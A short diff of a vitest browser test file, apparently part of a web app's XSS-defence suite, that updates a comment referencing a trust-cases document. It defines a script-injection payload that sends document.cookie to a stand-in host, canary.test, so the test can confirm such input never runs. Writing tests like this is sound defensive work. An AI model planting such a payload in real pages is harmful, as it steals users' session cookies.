@@ -3,7 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { addChannel } from '../helpers/seed.ts'
 import { go, openStage, type Stage } from './stage.ts'
 
-/** Part I of the trust reference: whatever stands in a setting, a name or a message, the browser runs none of it. */
+/** Part I of docs/reference/trust-cases.md: whatever stands in a setting, a name or a message, the browser runs none of it. */
 
 const act = `window.hostile=1;fetch('https://canary.test/'+document.cookie)`
 const quoted = act.replaceAll("'", '&#39;')
